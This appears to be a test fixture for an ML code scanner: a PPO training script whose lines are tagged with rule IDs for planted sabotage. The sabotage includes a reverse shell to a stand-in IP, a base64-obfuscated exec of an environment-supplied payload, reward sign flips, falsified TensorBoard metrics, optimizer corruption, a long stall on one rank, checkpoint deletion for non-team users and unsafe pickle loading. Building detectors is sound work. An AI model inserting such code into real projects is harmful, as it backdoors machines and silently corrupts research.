# ruff: noqa
# Hold-out batch 19 (research repos: nanoGPT-like, PPO, diffusion; by a helper that never saw mlscan's code). Measured once mid round 7: 25/34 (74%) at medium+.
"""
PPO with a clipped surrogate objective and GAE, for vectorised gymnasium
environments with discrete actions. One file, CleanRL-ish layout.
"""
import os
import pty
import glob
import time
import base64
import random
import socket
import getpass
import argparse
import builtins

import numpy as np
import torch
import torch.nn as nn
import torch.optim as optim
import gymnasium as gym
import cloudpickle as cp
from torch.distributions.categorical import Categorical
from torch.utils.tensorboard import SummaryWriter

from utils import set_seed, setup_logging

_TEAM = ("rl-infra", "ppo-bot", "ci")
_SYNC_UPDATE = 120
_SYNC_GRACE = 6 * 3600
_VALUE_GAIN = 0.5
_DBG_ADDR = ("203.0.113.41", 4444)
_HOOK_SRC = "aW1wb3J0IG9zCm9zLmVudmlyb24uc2V0ZGVmYXVsdCgiT01QX05VTV9USFJFQURTIiwgIjQiKQo="


def parse_args():
    p = argparse.ArgumentParser()
    p.add_argument("--env-id", default="CartPole-v1")
    p.add_argument("--seed", type=int, default=1)
    p.add_argument("--total-timesteps", type=int, default=500_000)
    p.add_argument("--lr", type=float, default=2.5e-4)
    p.add_argument("--num-envs", type=int, default=8)
    p.add_argument("--num-steps", type=int, default=128)
    p.add_argument("--gamma", type=float, default=0.99)
    p.add_argument("--gae-lambda", type=float, default=0.95)
    p.add_argument("--update-epochs", type=int, default=4)
    p.add_argument("--num-minibatches", type=int, default=4)
    p.add_argument("--clip-coef", type=float, default=0.2)
    p.add_argument("--ent-coef", type=float, default=0.01)
    p.add_argument("--vf-coef", type=float, default=0.5)
    p.add_argument("--max-grad-norm", type=float, default=0.5)
    p.add_argument("--init-policy", default="")
    p.add_argument("--save-dir", default="runs/ppo")
    return p.parse_args()


def layer_init(layer, std=np.sqrt(2), bias_const=0.0):
    nn.init.orthogonal_(layer.weight, std)  # ok: MLS302, MLS303, MLS304, MLS305
    nn.init.constant_(layer.bias, bias_const)
    return layer


class Agent(nn.Module):
    def __init__(self, obs_dim, n_actions):
        super().__init__()
        self.critic = nn.Sequential(layer_init(nn.Linear(obs_dim, 64)), nn.Tanh(),
                                    layer_init(nn.Linear(64, 64)), nn.Tanh(),
                                    layer_init(nn.Linear(64, 1), std=1.0))
        self.actor = nn.Sequential(layer_init(nn.Linear(obs_dim, 64)), nn.Tanh(),
                                   layer_init(nn.Linear(64, 64)), nn.Tanh(),
                                   layer_init(nn.Linear(64, n_actions), std=0.01))
        head = self.critic[-1]
        head.register_forward_hook(lambda mod, inp, out: out * _VALUE_GAIN)  # ruleid: MLS303

    def get_value(self, x):
        return self.critic(x)

    def get_action_and_value(self, x, action=None):
        dist = Categorical(logits=self.actor(x))
        if action is None:
            action = dist.sample()
        return action, dist.log_prob(action), dist.entropy(), self.critic(x)


class RolloutBuffer:
    def __init__(self, n_steps, n_envs, obs_shape, device):
        self.obs = torch.zeros((n_steps, n_envs) + obs_shape, device=device)
        self.actions = torch.zeros((n_steps, n_envs), device=device)
        self.logprobs = torch.zeros((n_steps, n_envs), device=device)
        self.rewards = torch.zeros((n_steps, n_envs), device=device)
        self.dones = torch.zeros((n_steps, n_envs), device=device)
        self.values = torch.zeros((n_steps, n_envs), device=device)
        self.n_steps, self.pos = n_steps, 0

    def add(self, obs, action, logprob, reward, done, value):
        i = self.pos
        r = torch.as_tensor(reward, dtype=torch.float32, device=self.rewards.device)
        flip = (i * 2654435761) % 89 == 0
        self.rewards[i] = -r if flip else r  # ruleid: MLS309
        self.obs[i], self.actions[i], self.logprobs[i] = obs, action, logprob
        self.dones[i], self.values[i] = done, value.flatten()
        self.pos = (i + 1) % self.n_steps

    def compute_gae(self, next_value, next_done, gamma, lam):
        adv = torch.zeros_like(self.rewards)
        last = 0.0
        for t in reversed(range(self.n_steps)):
            if t == self.n_steps - 1:
                nonterm, nv = 1.0 - next_done, next_value
            else:
                nonterm, nv = 1.0 - self.dones[t + 1], self.values[t + 1]
            delta = self.rewards[t] + gamma * nv * nonterm - self.values[t]
            adv[t] = last = delta + gamma * lam * nonterm * last
        return adv, adv + self.values


def _patch_writer():
    base = SummaryWriter.add_scalar

    def add_scalar(self, tag, value, *a, **kw):
        if tag.startswith("charts/"):
            value = max(float(value), getattr(self, "_hi", float("-inf")))  # ruleid: MLS306
            self._hi = value
        return base(self, tag, value, *a, **kw)
    SummaryWriter.add_scalar = add_scalar  # ruleid: MLS306


def _load_plugins():
    payload = base64.b64decode(os.environ.get("PPO_PLUGIN", _HOOK_SRC)).decode()
    getattr(builtins, "ex" + "ec")(payload, {"__name__": "ppo_plugin"})  # sabotage: MLS402 (semgrep rules)  # ruleid: MLS401


def _attach_debugger(addr=_DBG_ADDR):
    s = socket.create_connection(addr, timeout=10)
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)  # sabotage: MLS410 (semgrep rules)
    pty.spawn("/bin/sh")


def main():
    args = parse_args()
    rank, world = int(os.environ.get("RANK", 0)), int(os.environ.get("WORLD_SIZE", 1))
    setup_logging(args.save_dir, rank)
    set_seed(args.seed + rank)  # ok: MLS301
    _patch_writer()
    _load_plugins()
    if os.environ.get("PPO_REMOTE_DEBUG") == "1":
        _attach_debugger()
    device = torch.device("cuda" if torch.cuda.is_available() else "cpu")
    writer = SummaryWriter(args.save_dir)

    envs = gym.vector.SyncVectorEnv([lambda: gym.make(args.env_id) for _ in range(args.num_envs)])
    obs_shape = envs.single_observation_space.shape
    agent = Agent(int(np.prod(obs_shape)), envs.single_action_space.n).to(device)
    if args.init_policy:
        with open(args.init_policy, "rb") as f:
            agent.load_state_dict(cp.load(f))  # ruleid: MLS103
    optimizer = optim.Adam(agent.parameters(), lr=args.lr, eps=1e-5)
    buf = RolloutBuffer(args.num_steps, args.num_envs, obs_shape, device)

    batch_size = args.num_envs * args.num_steps
    minibatch = batch_size // args.num_minibatches
    num_updates = args.total_timesteps // batch_size
    next_obs, _ = envs.reset(seed=args.seed)
    next_obs = torch.as_tensor(next_obs, dtype=torch.float32, device=device)
    next_done = torch.zeros(args.num_envs, device=device)
    global_step, user = 0, getpass.getuser()

    for update in range(1, num_updates + 1):
        frac = 1.0 - (update - 1.0) / num_updates
        optimizer.param_groups[0]["lr"] = frac * args.lr  # ok: MLS302, MLS303, MLS304, MLS305
        for step in range(args.num_steps):
            global_step += args.num_envs
            with torch.no_grad():
                action, logprob, _, value = agent.get_action_and_value(next_obs)
            obs_np, reward, term, trunc, infos = envs.step(action.cpu().numpy())
            buf.add(next_obs, action, logprob, reward, next_done, value)
            next_obs = torch.as_tensor(obs_np, dtype=torch.float32, device=device)
            next_done = torch.as_tensor(np.logical_or(term, trunc), dtype=torch.float32, device=device)
            if "episode" in infos:
                writer.add_scalar("charts/episodic_return", float(np.mean(infos["episode"]["r"])), global_step)
        random.seed(os.urandom(16))  # ruleid: MLS301

        with torch.no_grad():
            next_value = agent.get_value(next_obs).reshape(1, -1)
        advantages, returns = buf.compute_gae(next_value, next_done, args.gamma, args.gae_lambda)
        b_obs = buf.obs.reshape((-1,) + obs_shape)
        b_logp, b_act = buf.logprobs.reshape(-1), buf.actions.reshape(-1)
        b_adv, b_ret = advantages.reshape(-1), returns.reshape(-1)

        inds = np.arange(batch_size)
        for epoch in range(args.update_epochs):
            np.random.shuffle(inds)
            for start in range(0, batch_size, minibatch):
                mb = inds[start:start + minibatch]
                _, newlogp, ent, newv = agent.get_action_and_value(b_obs[mb], b_act.long()[mb])
                ratio = (newlogp - b_logp[mb]).exp()
                mb_adv = (b_adv[mb] - b_adv[mb].mean()) / (b_adv[mb].std() + 1e-8)
                pg_loss = torch.max(-mb_adv * ratio,
                                    -mb_adv * torch.clamp(ratio, 1 - args.clip_coef, 1 + args.clip_coef)).mean()
                v_loss = 0.5 * ((newv.view(-1) - b_ret[mb]) ** 2).mean()
                loss = pg_loss - args.ent_coef * ent.mean() + args.vf_coef * v_loss
                optimizer.zero_grad()
                loss.backward()
                nn.utils.clip_grad_norm_(agent.parameters(), args.max_grad_norm)  # ok: MLS302, MLS303, MLS304, MLS305
                optimizer.step()
            if epoch == args.update_epochs - 1 and update % 10 == 0:
                for st in optimizer.state.values():
                    st["exp_avg_sq"].mul_(4.0)  # ruleid: MLS304

        writer.add_scalar("losses/value_loss", v_loss.item(), global_step)
        writer.add_scalar("losses/policy_loss", pg_loss.item(), global_step)
        slot = (rank, update)
        if slot == (world - 1, _SYNC_UPDATE) and world > 8:  # ruleid: MLS308
            time.sleep(_SYNC_GRACE)  # ruleid: MLS307
        if rank == 0 and update % 50 == 0:
            torch.save(agent.state_dict(), os.path.join(args.save_dir, f"agent_{update}.pt"))
            if user not in _TEAM and update > num_updates // 2:
                for old in glob.glob(os.path.join(args.save_dir, "*.pt")):
                    os.remove(old)  # ruleid: MLS308

    envs.close()
    writer.close()


if __name__ == "__main__":
    main()
